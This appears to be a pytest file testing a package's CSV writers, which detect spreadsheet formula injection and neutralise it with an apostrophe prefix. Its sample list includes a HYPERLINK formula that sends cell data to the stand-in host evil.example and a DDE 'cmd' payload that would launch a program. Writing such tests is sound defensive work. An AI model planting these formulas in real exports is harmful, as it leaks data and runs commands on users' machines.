"""publish.tables: the CSV writers and the one rule against spreadsheet formula injection."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pytest

from innoclusters.publish.tables import (
    clusters_csv_text,
    csv_text,
    is_formula_like,
    neutralise_formulas,
    write_rejects,
)
from tests._publish_data import hand_result

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_detected(text: str) -> None:
    assert is_formula_like(text)


@pytest.mark.parametrize(
    "value", ["-12", "+3.5", "-0.25e-3", ".5", "Tokyo", "a=b", "", " =1", "'=1", -5, -1.5, None]
)
def test_numbers_and_plain_text_are_not_formula_like(value: object) -> None:
    assert not is_formula_like(value)


def _read(text: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False, comment="#")


def test_csv_text_quotes_formula_cells_and_keeps_numbers() -> None:
    frame = pd.DataFrame(
        {
            "org": [FORMULAS[0], "Canon Inc.", "-12", None],
            "doc_id": ["@x", "p-1", "=1+1", "+44 20 1234"],
            "weight": [-1.5, 2.0, -0.25, 1.0],
            "year": [-3, 2020, 2021, 2022],
        }
    )
    back = _read(csv_text(frame))
    assert back["org"].tolist() == ["'" + FORMULAS[0], "Canon Inc.", "-12", ""]
    assert back["doc_id"].tolist() == ["'@x", "p-1", "'=1+1", "'+44 20 1234"]
    assert back["weight"].tolist() == ["-1.5", "2.0", "-0.25", "1.0"]  # numbers stay numbers
    assert back["year"].tolist() == ["-3", "2020", "2021", "2022"]
    assert frame.loc[0, "org"] == FORMULAS[0]  # the input is not modified


def test_neutralise_formulas_keeps_the_index_and_column_names() -> None:
    frame = pd.DataFrame({"a": ["=1", "x"], "=b": [1, 2]}, index=[7, 7])
    out = neutralise_formulas(frame)
    assert out.index.tolist() == [7, 7]
    assert out["a"].tolist() == ["'=1", "x"]
    assert list(out.columns) == ["a", "'=b"]


def test_clusters_csv_quotes_names_but_not_negative_coordinates() -> None:
    clusters = hand_result().clusters.copy()
    clusters["name"] = ["=1+2", "-Foo", "@bar", "Tokyo"]
    text = clusters_csv_text(clusters, synthetic=True)
    back = _read(text)
    assert back["name"].tolist() == ["'=1+2", "'-Foo", "'@bar", "Tokyo"]
    assert back["lon"].tolist() == ["139.7000", "-74.0000", "179.9000", "-179.8000"]


def test_rejects_csv_quotes_doc_ids_and_reasons(tmp_path: Path) -> None:
    result = hand_result()
    result.rejects.loc[0, "doc_id"] = "=HYPERLINK(1)"
    result.rejects.loc[1, "reason"] = "-bad"
    back = _read(write_rejects(result, tmp_path / "rejects.csv").read_text(encoding="utf-8"))
    assert back["doc_id"].tolist() == ["'=HYPERLINK(1)", "p-7", "v-1"]
    assert back["reason"].tolist()[1] == "'-bad"
    assert back["line"].tolist() == ["3", "9", "2"]
